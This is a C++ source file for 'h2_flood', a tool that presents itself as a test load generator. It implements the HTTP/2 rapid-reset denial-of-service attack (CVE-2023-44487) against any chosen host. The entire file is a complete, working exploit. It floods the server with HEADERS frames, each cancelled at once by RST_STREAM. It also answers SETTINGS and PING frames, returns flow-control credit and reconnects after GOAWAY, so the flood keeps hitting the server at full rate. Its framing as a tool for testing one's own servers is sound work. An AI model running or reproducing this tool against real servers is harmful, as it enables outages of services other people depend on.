// h2_flood: an HTTP/2 "rapid reset" (CVE-2023-44487) load generator for tests.
//
// It opens one cleartext HTTP/2 (h2c, prior knowledge) connection and, for a given time, sends
// HEADERS frames that open a new request stream, each immediately followed by RST_STREAM(CANCEL)
// on the same stream. Because every stream is cancelled at once, the client never has a stream
// open, so SETTINGS_MAX_CONCURRENT_STREAMS does not slow it down, while a server that starts
// work (allocates a call) for each HEADERS before it sees the reset can fall far behind.
//
// Only the C++ standard library and POSIX sockets are used, so the tool builds anywhere the tests
// do. Frame layouts follow RFC 9113 (HTTP/2) and header blocks RFC 7541 (HPACK).
//
// Usage: h2_flood --port P [--host H] [--seconds S] [--path /svc/Method] [--max-streams N]
//                 [--batch N] [--no-reconnect] [--verbose]
// Prints one summary line on stdout. Exit status: 0 after a completed run, 1 when no connection
// could be opened at all, 2 on usage errors.
#include <netdb.h>
#include <netinet/in.h>
#include <netinet/tcp.h>
#include <poll.h>
#include <signal.h>
#include <sys/socket.h>
#include <sys/types.h>
#include <unistd.h>

#include <algorithm>
#include <cerrno>
#include <chrono>
#include <cstdint>
#include <cstdio>
#include <cstdlib>
#include <cstring>
#include <optional>
#include <string>
#include <thread>

namespace {

using Clock = std::chrono::steady_clock;

// RFC 9113 §6: frame types and the flags this tool sends or inspects.
constexpr uint8_t kTypeData = 0x0;
constexpr uint8_t kTypeHeaders = 0x1;
constexpr uint8_t kTypeRstStream = 0x3;
constexpr uint8_t kTypeSettings = 0x4;
constexpr uint8_t kTypePing = 0x6;
constexpr uint8_t kTypeGoaway = 0x7;
constexpr uint8_t kTypeWindowUpdate = 0x8;
constexpr uint8_t kFlagAck = 0x1;  // SETTINGS and PING
constexpr uint8_t kFlagEndHeaders = 0x4;
constexpr uint32_t kErrorCancel = 0x8;  // RFC 9113 §7
constexpr size_t kFrameHeaderSize = 9;
// The largest payload a peer must accept before it raises SETTINGS_MAX_FRAME_SIZE (§4.2). The
// header block must fit one HEADERS frame: this tool sends no CONTINUATION frames.
constexpr size_t kDefaultMaxFrameSize = 16384;
constexpr uint32_t kMaxStreamId = 0x7fffffff;  // stream ids are 31 bits (§5.1.1)
// How long a run cut short by --max-streams waits for the server to read what it was sent.
constexpr std::chrono::seconds kLingerTime(2);
constexpr char kClientPreface[] = "PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n";  // §3.4

struct Options {
  std::string host = "127.0.0.1";
  int port = 0;
  double seconds = 5.0;
  std::string path = "/inference.GRPCInferenceService/ModelInfer";
  uint64_t max_streams = 0;  // 0: no limit, run for `seconds`
  int batch = 256;           // HEADERS+RST_STREAM pairs per write()
  bool reconnect = true;
  bool verbose = false;
};

struct Totals {
  uint64_t streams_sent = 0;
  uint64_t connections = 0;
  uint64_t connect_failures = 0;
  uint64_t goaways = 0;
  uint32_t last_goaway_error = 0;
  uint64_t bytes_received = 0;
};

// Why a connection's loop returned.
enum class ConnectionEnd {
  kDeadline,      // the run's time is up
  kDone,          // --max-streams streams were sent
  kGoaway,        // the server sent GOAWAY: streams after its last-stream-id would be ignored
  kClosed,        // the server closed or reset the connection
  kIdsExhausted,  // the next odd stream id would exceed 2^31-1
};

void PrintUsage(FILE* out) {
  std::fprintf(
      out,
      "Usage: h2_flood --port P [options]\n"
      "Sends an HTTP/2 rapid-reset flood (HEADERS immediately followed by RST_STREAM(CANCEL),\n"
      "a new stream each time) over one cleartext HTTP/2 connection, reconnecting when the\n"
      "server sends GOAWAY or closes it. Prints one summary line.\n"
      "\n"
      "Options:\n"
      "  --port P          server port (required)\n"
      "  --host H          server host or address (default 127.0.0.1)\n"
      "  --seconds S       how long to flood, may be fractional (default 5)\n"
      "  --path P          :path of every request\n"
      "                    (default /inference.GRPCInferenceService/ModelInfer)\n"
      "  --max-streams N   stop after N streams in total, before the time is up (default 0:\n"
      "                    no limit)\n"
      "  --batch N         HEADERS+RST_STREAM pairs per write (default 256)\n"
      "  --no-reconnect    end the run when the server sends GOAWAY or closes the connection\n"
      "  --verbose         log connection events on stderr\n"
      "  --help            show this help\n"
      "\n"
      "Exit status: 0 after a completed run, 1 when no connection could be opened, 2 on usage\n"
      "errors.\n");
}

bool ParseUnsigned(const std::string& text, uint64_t max, uint64_t* value) {
  if (text.empty() || text.find_first_not_of("0123456789") != std::string::npos) return false;
  errno = 0;
  char* end = nullptr;
  const unsigned long long v = std::strtoull(text.c_str(), &end, 10);
  if (errno != 0 || *end != '\0' || v > max) return false;
  *value = v;
  return true;
}

// Returns -1 to go on, else the exit status (0 after --help, 2 on a usage error).
int ParseArgs(int argc, char** argv, Options* options) {
  bool have_port = false;
  for (int i = 1; i < argc; ++i) {
    std::string arg = argv[i];
    std::string value;
    bool has_inline_value = false;
    // Accept both "--flag value" and "--flag=value".
    const size_t eq = arg.find('=');
    if (arg.rfind("--", 0) == 0 && eq != std::string::npos) {
      value = arg.substr(eq + 1);
      arg = arg.substr(0, eq);
      has_inline_value = true;
    }
    auto next_value = [&](std::string* out) {
      if (has_inline_value) {
        *out = value;
        return true;
      }
      if (i + 1 >= argc) return false;
      *out = argv[++i];
      return true;
    };
    auto usage_error = [&](const char* what) {
      std::fprintf(stderr, "h2_flood: %s: %s (see --help)\n", what, argv[i]);
      return 2;
    };
    auto flag_only = [&] { return !has_inline_value; };

    std::string v;
    uint64_t n = 0;
    if (arg == "--help" || arg == "-h") {
      PrintUsage(stdout);
      return 0;
    } else if (arg == "--port") {
      if (!next_value(&v) || !ParseUnsigned(v, 65535, &n) || n == 0) {
        return usage_error("--port needs a number in 1..65535");
      }
      options->port = static_cast<int>(n);
      have_port = true;
    } else if (arg == "--host") {
      if (!next_value(&v) || v.empty()) return usage_error("--host needs a value");
      options->host = v;
    } else if (arg == "--seconds") {
      if (!next_value(&v)) return usage_error("--seconds needs a value");
      char* end = nullptr;
      errno = 0;
      const double s = std::strtod(v.c_str(), &end);
      // Upper bound: a day keeps the deadline arithmetic far from overflow.
      if (v.empty() || errno != 0 || *end != '\0' || !(s > 0.0) || s > 86400.0) {
        return usage_error("--seconds needs a number in (0, 86400]");
      }
      options->seconds = s;
    } else if (arg == "--path") {
      if (!next_value(&v) || v.empty() || v[0] != '/') {
        return usage_error("--path needs a value starting with '/'");
      }
      options->path = v;
    } else if (arg == "--max-streams") {
      if (!next_value(&v) || !ParseUnsigned(v, UINT64_MAX, &n)) {
        return usage_error("--max-streams needs a non-negative number");
      }
      options->max_streams = n;
    } else if (arg == "--batch") {
      if (!next_value(&v) || !ParseUnsigned(v, 65536, &n) || n == 0) {
        return usage_error("--batch needs a number in 1..65536");
      }
      options->batch = static_cast<int>(n);
    } else if (arg == "--no-reconnect" && flag_only()) {
      options->reconnect = false;
    } else if (arg == "--verbose" && flag_only()) {
      options->verbose = true;
    } else {
      return usage_error("unknown argument");
    }
  }
  if (!have_port) {
    std::fprintf(stderr, "h2_flood: --port is required (see --help)\n");
    return 2;
  }
  return -1;
}

void PutUint32(char* p, uint32_t v) {
  p[0] = static_cast<char>((v >> 24) & 0xff);
  p[1] = static_cast<char>((v >> 16) & 0xff);
  p[2] = static_cast<char>((v >> 8) & 0xff);
  p[3] = static_cast<char>(v & 0xff);
}

uint32_t GetUint32(const unsigned char* p) {
  return (static_cast<uint32_t>(p[0]) << 24) | (static_cast<uint32_t>(p[1]) << 16) |
         (static_cast<uint32_t>(p[2]) << 8) | static_cast<uint32_t>(p[3]);
}

// RFC 9113 §4.1: 24-bit length, 8-bit type, 8-bit flags, reserved bit + 31-bit stream id.
void AppendFrameHeader(std::string* out, uint32_t length, uint8_t type, uint8_t flags,
                       uint32_t stream_id) {
  char header[kFrameHeaderSize];
  header[0] = static_cast<char>((length >> 16) & 0xff);
  header[1] = static_cast<char>((length >> 8) & 0xff);
  header[2] = static_cast<char>(length & 0xff);
  header[3] = static_cast<char>(type);
  header[4] = static_cast<char>(flags);
  PutUint32(header + 5, stream_id & kMaxStreamId);
  out->append(header, sizeof(header));
}

// RFC 7541 §5.1: an integer with an N-bit prefix; `high_bits` are the representation's pattern
// bits above the prefix in the first octet.
void AppendHpackInteger(std::string* out, uint8_t high_bits, int prefix_bits, uint64_t value) {
  const uint64_t max_prefix = (uint64_t{1} << prefix_bits) - 1;
  if (value < max_prefix) {
    out->push_back(static_cast<char>(high_bits | value));
    return;
  }
  out->push_back(static_cast<char>(high_bits | max_prefix));
  value -= max_prefix;
  while (value >= 128) {
    out->push_back(static_cast<char>((value % 128) | 0x80));
    value /= 128;
  }
  out->push_back(static_cast<char>(value));
}

// RFC 7541 §5.2: a string literal without Huffman coding (H bit 0, 7-bit length prefix).
void AppendHpackString(std::string* out, const std::string& s) {
  AppendHpackInteger(out, 0x00, 7, s.size());
  out->append(s);
}

// RFC 7541 §6.2.2: "Literal Header Field without Indexing -- New Name" (first octet 0000 0000).
// Never touching the dynamic table keeps every stream's header block byte-identical, so one
// encoding serves the whole run and the server's HPACK state cannot drift from ours.
void AppendLiteralHeader(std::string* out, const std::string& name, const std::string& value) {
  out->push_back('\0');
  AppendHpackString(out, name);
  AppendHpackString(out, value);
}

std::string BuildHeaderBlock(const Options& options) {
  // An IPv6 literal needs brackets in an authority (RFC 3986 §3.2.2).
  const bool ipv6_literal = options.host.find(':') != std::string::npos;
  const std::string authority =
      (ipv6_literal ? "[" + options.host + "]" : options.host) + ":" + std::to_string(options.port);
  std::string block;
  // Pseudo-header fields must come before regular ones (RFC 9113 §8.3).
  AppendLiteralHeader(&block, ":method", "POST");
  AppendLiteralHeader(&block, ":scheme", "http");
  AppendLiteralHeader(&block, ":path", options.path);
  AppendLiteralHeader(&block, ":authority", authority);
  AppendLiteralHeader(&block, "content-type", "application/grpc");
  AppendLiteralHeader(&block, "te", "trailers");
  return block;
}

// A write buffer of `capacity` HEADERS+RST_STREAM pairs. All pairs are the same size, so only
// the stream-id fields change from one batch to the next, and the number of pairs that reached
// the kernel follows from the number of bytes written.
class PairBatch {
 public:
  PairBatch(const std::string& header_block, int capacity) : capacity_(capacity) {
    std::string pair;
    AppendFrameHeader(&pair, static_cast<uint32_t>(header_block.size()), kTypeHeaders,
                      kFlagEndHeaders, 0);
    pair += header_block;
    rst_offset_ = pair.size();
    AppendFrameHeader(&pair, 4, kTypeRstStream, 0, 0);
    char code[4];
    PutUint32(code, kErrorCancel);
    pair.append(code, sizeof(code));
    pair_size_ = pair.size();
    buffer_.reserve(pair_size_ * static_cast<size_t>(capacity));
    for (int i = 0; i < capacity; ++i) buffer_ += pair;
  }

  int capacity() const { return capacity_; }
  size_t pair_size() const { return pair_size_; }

  // Sets the stream ids of the first `count` pairs to first_id, first_id + 2, ... and returns
  // the bytes to send.
  const std::string& Fill(int count, uint32_t first_id) {
    filled_ = count;
    for (int i = 0; i < count; ++i) {
      char* pair = &buffer_[static_cast<size_t>(i) * pair_size_];
      const uint32_t id = first_id + 2 * static_cast<uint32_t>(i);
      PutUint32(pair + 5, id);
      PutUint32(pair + rst_offset_ + 5, id);
    }
    return buffer_;
  }
  size_t filled_bytes() const { return static_cast<size_t>(filled_) * pair_size_; }

 private:
  int capacity_;
  int filled_ = 0;
  size_t pair_size_ = 0;
  size_t rst_offset_ = 0;
  std::string buffer_;
};

// Waits for a non-blocking connect() to finish, until `deadline`. Returns 0 or an errno value.
int FinishConnect(int fd, Clock::time_point deadline) {
  for (;;) {
    const auto left =
        std::chrono::duration_cast<std::chrono::milliseconds>(deadline - Clock::now());
    if (left.count() <= 0) return ETIMEDOUT;
    pollfd p{};
    p.fd = fd;
    p.events = POLLOUT;
    const int ready = poll(&p, 1, static_cast<int>(std::min<int64_t>(left.count(), 1000)));
    if (ready < 0 && errno != EINTR) return errno;
    if (ready <= 0) continue;
    int error = 0;
    socklen_t length = sizeof(error);
    if (getsockopt(fd, SOL_SOCKET, SO_ERROR, &error, &length) < 0) return errno;
    return error;
  }
}

// Opens a non-blocking TCP connection, giving up at `deadline` (an unreachable host must not
// hold the run past its time). Returns -1 and fills `error` on failure.
int Connect(const Options& options, Clock::time_point deadline, std::string* error) {
  addrinfo hints{};
  hints.ai_family = AF_UNSPEC;
  hints.ai_socktype = SOCK_STREAM;
  addrinfo* addresses = nullptr;
  const std::string port = std::to_string(options.port);
  const int rc = getaddrinfo(options.host.c_str(), port.c_str(), &hints, &addresses);
  if (rc != 0) {
    *error = std::string("cannot resolve ") + options.host + ": " + gai_strerror(rc);
    return -1;
  }
  int fd = -1;
  for (addrinfo* a = addresses; a != nullptr; a = a->ai_next) {
    fd = socket(a->ai_family, a->ai_socktype | SOCK_NONBLOCK | SOCK_CLOEXEC, a->ai_protocol);
    if (fd < 0) {
      *error = std::string("socket: ") + std::strerror(errno);
      continue;
    }
    int result = connect(fd, a->ai_addr, a->ai_addrlen) == 0 ? 0 : errno;
    if (result == EINPROGRESS) result = FinishConnect(fd, deadline);
    if (result == 0) break;
    *error = "connect to " + options.host + ":" + port + ": " + std::strerror(result);
    close(fd);
    fd = -1;
  }
  freeaddrinfo(addresses);
  if (fd < 0) return -1;
  // The batches are large; Nagle would only hold back the small ACK frames.
  const int one = 1;
  setsockopt(fd, IPPROTO_TCP, TCP_NODELAY, &one, sizeof(one));
  return fd;
}

class Connection {
 public:
  Connection(int fd, const Options& options, PairBatch* batch, Totals* totals)
      : fd_(fd), options_(options), batch_(batch), totals_(totals) {}

  ConnectionEnd Run(Clock::time_point deadline) {
    // The preface and our (empty) SETTINGS may go out before the server's SETTINGS arrive
    // (RFC 9113 §3.4); the flood follows straight away, as an attacker's would.
    control_.append(kClientPreface, sizeof(kClientPreface) - 1);
    AppendFrameHeader(&control_, 0, kTypeSettings, 0, 0);
    for (;;) {
      if (Clock::now() >= deadline) return ConnectionEnd::kDeadline;
      if (out_ == nullptr || out_offset_ == out_size_) {
        FinishWrite();
        if (!control_.empty()) {
          // Control frames go whole between batches, never inside one.
          sending_control_.swap(control_);
          control_.clear();
          StartWrite(&sending_control_, sending_control_.size(), false);
        } else if (StreamsLeft() == 0) {
          return ConnectionEnd::kDone;
        } else if (next_stream_id_ > kMaxStreamId) {
          return ConnectionEnd::kIdsExhausted;
        } else {
          const uint64_t ids_left = (kMaxStreamId - next_stream_id_) / 2 + 1;
          const uint64_t count = std::min<uint64_t>(
              {static_cast<uint64_t>(batch_->capacity()), ids_left, StreamsLeft()});
          const std::string& bytes = batch_->Fill(static_cast<int>(count), next_stream_id_);
          next_stream_id_ += 2 * static_cast<uint32_t>(count);
          StartWrite(&bytes, batch_->filled_bytes(), true);
        }
      }

      pollfd p{};
      p.fd = fd_;
      p.events = POLLIN | POLLOUT;
      const auto left =
          std::chrono::duration_cast<std::chrono::milliseconds>(deadline - Clock::now());
      const int timeout_ms = static_cast<int>(std::clamp<int64_t>(left.count() + 1, 0, 100));
      const int ready = poll(&p, 1, timeout_ms);
      if (ready < 0) {
        if (errno == EINTR) continue;
        LogClosed("poll", errno);
        return ConnectionEnd::kClosed;
      }
      if (ready == 0) continue;
      // Read first: the server's receive side may only drain once we take what it sent.
      if ((p.revents & (POLLIN | POLLHUP | POLLERR)) != 0) {
        const std::optional<ConnectionEnd> end = ReadAvailable();
        if (end.has_value()) return *end;
      }
      if ((p.revents & POLLOUT) != 0 && !WriteAvailable()) {
        return ConnectionEnd::kClosed;
      }
    }
  }

  // After the last stream: half-closes and discards what the server sends until it closes the
  // connection or `deadline` passes. A close with unread data would make our kernel reset the
  // connection, and the server could drop frames it has not read yet.
  void Linger(Clock::time_point deadline) {
    shutdown(fd_, SHUT_WR);
    while (Clock::now() < deadline) {
      pollfd p{};
      p.fd = fd_;
      p.events = POLLIN;
      const auto left =
          std::chrono::duration_cast<std::chrono::milliseconds>(deadline - Clock::now());
      if (poll(&p, 1, static_cast<int>(std::clamp<int64_t>(left.count() + 1, 0, 100))) < 0 &&
          errno != EINTR) {
        return;
      }
      if (p.revents != 0 && ReadAvailable().has_value()) return;
    }
  }

  // Counts the pairs of a batch cut short by the end of the connection.
  void Abandon() {
    if (out_is_batch_) totals_->streams_sent += out_offset_ / batch_->pair_size();
    out_ = nullptr;
    out_is_batch_ = false;
  }

 private:
  uint64_t StreamsLeft() const {
    if (options_.max_streams == 0) return UINT64_MAX;
    return options_.max_streams - std::min(options_.max_streams, totals_->streams_sent);
  }

  void StartWrite(const std::string* bytes, size_t size, bool is_batch) {
    out_ = bytes;
    out_size_ = size;
    out_offset_ = 0;
    out_is_batch_ = is_batch;
  }

  void FinishWrite() {
    if (out_is_batch_) totals_->streams_sent += out_size_ / batch_->pair_size();
    out_ = nullptr;
    out_is_batch_ = false;
  }

  // Returns false when the connection is gone.
  bool WriteAvailable() {
    while (out_offset_ < out_size_) {
      // MSG_NOSIGNAL: a peer that closed must show up as EPIPE here, not kill us with SIGPIPE.
      const ssize_t n =
          send(fd_, out_->data() + out_offset_, out_size_ - out_offset_, MSG_NOSIGNAL);
      if (n > 0) {
        out_offset_ += static_cast<size_t>(n);
        continue;
      }
      if (n < 0 && errno == EINTR) continue;
      if (n < 0 && (errno == EAGAIN || errno == EWOULDBLOCK)) return true;
      LogClosed("send", n < 0 ? errno : 0);
      return false;
    }
    return true;
  }

  // Reads and discards everything available, answering SETTINGS and PING. Returns how the
  // connection ended, or nothing while it goes on.
  std::optional<ConnectionEnd> ReadAvailable() {
    char buffer[65536];
    for (;;) {
      const ssize_t n = recv(fd_, buffer, sizeof(buffer), 0);
      if (n > 0) {
        totals_->bytes_received += static_cast<uint64_t>(n);
        in_.append(buffer, static_cast<size_t>(n));
        if (ParseFrames()) return ConnectionEnd::kGoaway;
        continue;
      }
      if (n < 0 && errno == EINTR) continue;
      if (n < 0 && (errno == EAGAIN || errno == EWOULDBLOCK)) return std::nullopt;
      LogClosed("recv", n < 0 ? errno : 0);
      return ConnectionEnd::kClosed;
    }
  }

  // Consumes the complete frames in in_. Returns true when a GOAWAY arrived.
  bool ParseFrames() {
    size_t pos = 0;
    bool goaway = false;
    while (in_.size() - pos >= kFrameHeaderSize) {
      const auto* h = reinterpret_cast<const unsigned char*>(in_.data() + pos);
      const size_t length = (static_cast<size_t>(h[0]) << 16) | (static_cast<size_t>(h[1]) << 8) |
                            static_cast<size_t>(h[2]);
      if (in_.size() - pos - kFrameHeaderSize < length) break;
      const uint8_t type = h[3];
      const uint8_t flags = h[4];
      const unsigned char* payload = h + kFrameHeaderSize;
      if (type == kTypeSettings && (flags & kFlagAck) == 0) {
        // §6.5.3: the server waits for this ACK before it applies its settings; an attacker
        // acknowledges, so the flood meets the server's real limits.
        AppendFrameHeader(&control_, 0, kTypeSettings, kFlagAck, 0);
      } else if (type == kTypePing && (flags & kFlagAck) == 0 && length == 8) {
        // §6.7: a PING unanswered may be taken as a dead peer.
        AppendFrameHeader(&control_, 8, kTypePing, kFlagAck, 0);
        control_.append(reinterpret_cast<const char*>(payload), 8);
      } else if (type == kTypeData && length > 0) {
        // Give the connection-level credit back so the server never stalls on flow control
        // (§6.9); the streams themselves are already reset.
        AppendFrameHeader(&control_, 4, kTypeWindowUpdate, 0, 0);
        char increment[4];
        PutUint32(increment, static_cast<uint32_t>(length));
        control_.append(increment, sizeof(increment));
      } else if (type == kTypeGoaway && length >= 8) {
        const uint32_t last_stream_id = GetUint32(payload) & kMaxStreamId;
        const uint32_t error_code = GetUint32(payload + 4);
        ++totals_->goaways;
        totals_->last_goaway_error = error_code;
        if (options_.verbose) {
          const std::string debug(reinterpret_cast<const char*>(payload + 8), length - 8);
          std::fprintf(stderr, "h2_flood: GOAWAY last_stream_id=%u error=0x%x debug='%s'\n",
                       last_stream_id, error_code, debug.c_str());
        }
        goaway = true;
      }
      pos += kFrameHeaderSize + length;
    }
    in_.erase(0, pos);
    return goaway;
  }

  void LogClosed(const char* what, int error) const {
    if (options_.verbose) {
      std::fprintf(stderr, "h2_flood: connection closed (%s: %s)\n", what,
                   error == 0 ? "end of stream" : std::strerror(error));
    }
  }

  const int fd_;
  const Options& options_;
  PairBatch* const batch_;
  Totals* const totals_;
  uint32_t next_stream_id_ = 1;  // client streams are odd (§5.1.1)
  std::string in_;
  std::string control_;          // frames waiting to go after the current write
  std::string sending_control_;  // the control frames being written now
  const std::string* out_ = nullptr;
  size_t out_size_ = 0;
  size_t out_offset_ = 0;
  bool out_is_batch_ = false;
};

const char* EndName(ConnectionEnd end) {
  switch (end) {
    case ConnectionEnd::kDeadline:
      return "time is up";
    case ConnectionEnd::kDone:
      return "max streams sent";
    case ConnectionEnd::kGoaway:
      return "GOAWAY";
    case ConnectionEnd::kClosed:
      return "closed by server";
    case ConnectionEnd::kIdsExhausted:
      return "stream ids exhausted";
  }
  return "?";
}

}  // namespace

int main(int argc, char** argv) {
  Options options;
  const int parse = ParseArgs(argc, argv, &options);
  if (parse >= 0) return parse;
  // Belt and braces next to MSG_NOSIGNAL: nothing here wants SIGPIPE's default action.
  signal(SIGPIPE, SIG_IGN);

  const std::string header_block = BuildHeaderBlock(options);
  if (header_block.size() > kDefaultMaxFrameSize) {
    std::fprintf(stderr, "h2_flood: --path too long: the header block must fit one frame\n");
    return 2;
  }
  PairBatch batch(header_block, options.batch);
  Totals totals;

  const Clock::time_point start = Clock::now();
  const Clock::time_point deadline = start + std::chrono::duration_cast<Clock::duration>(
                                                 std::chrono::duration<double>(options.seconds));
  std::string error;
  int fd = Connect(options, deadline, &error);
  if (fd < 0) {
    std::fprintf(stderr, "h2_flood: %s\n", error.c_str());
    return 1;
  }
  for (;;) {
    ++totals.connections;
    if (options.verbose) {
      std::fprintf(stderr, "h2_flood: connection %llu open\n",
                   static_cast<unsigned long long>(totals.connections));
    }
    Connection connection(fd, options, &batch, &totals);
    const ConnectionEnd end = connection.Run(deadline);
    connection.Abandon();
    if (end == ConnectionEnd::kDone) {
      connection.Linger(std::min(deadline, Clock::now() + kLingerTime));
    }
    close(fd);
    fd = -1;
    if (options.verbose) std::fprintf(stderr, "h2_flood: connection ended: %s\n", EndName(end));
    if (end == ConnectionEnd::kDeadline || end == ConnectionEnd::kDone) break;
    // Running out of ids is our limit, not the server's answer, so it always reconnects.
    if (!options.reconnect && end != ConnectionEnd::kIdsExhausted) break;
    // A server that refuses new connections for a while (restart, accept backlog) is retried
    // until the time is up.
    while (fd < 0 && Clock::now() < deadline) {
      fd = Connect(options, deadline, &error);
      if (fd < 0) {
        ++totals.connect_failures;
        if (options.verbose) std::fprintf(stderr, "h2_flood: %s\n", error.c_str());
        std::this_thread::sleep_for(std::chrono::milliseconds(10));
      }
    }
    if (fd < 0) break;
  }

  const double elapsed = std::chrono::duration<double>(Clock::now() - start).count();
  std::printf(
      "h2_flood: streams_sent=%llu connections=%llu goaway_received=%s goaways=%llu "
      "last_goaway_error=0x%x bytes_received=%llu connect_failures=%llu seconds=%.2f "
      "streams_per_second=%.0f\n",
      static_cast<unsigned long long>(totals.streams_sent),
      static_cast<unsigned long long>(totals.connections), totals.goaways > 0 ? "yes" : "no",
      static_cast<unsigned long long>(totals.goaways), totals.last_goaway_error,
      static_cast<unsigned long long>(totals.bytes_received),
      static_cast<unsigned long long>(totals.connect_failures), elapsed,
      elapsed > 0 ? static_cast<double>(totals.streams_sent) / elapsed : 0.0);
  return 0;
}
